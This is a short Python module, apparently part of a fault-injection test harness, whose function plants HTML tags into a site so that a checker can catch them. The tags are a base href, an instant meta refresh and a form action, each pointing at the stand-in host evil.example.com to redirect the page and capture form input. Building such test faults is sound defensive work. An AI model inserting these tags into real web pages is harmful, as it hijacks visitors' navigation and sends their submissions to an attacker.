"""Tags that lead the whole page elsewhere."""

from __future__ import annotations

from pathlib import Path

from faults.tools import add_to_criteria


def lay(root: Path) -> None:
    """Spoil the site."""
    add_to_criteria(
        root,
        (
            b"\n"
            b'<base href="https://evil.example.com/">'
            b'<meta http-equiv="refresh" content="0;url=https://evil.example.com/">'
            b'<form action="https://evil.example.com/"><input name=q></form><p id="main">x</p>\n'
        ),
    )
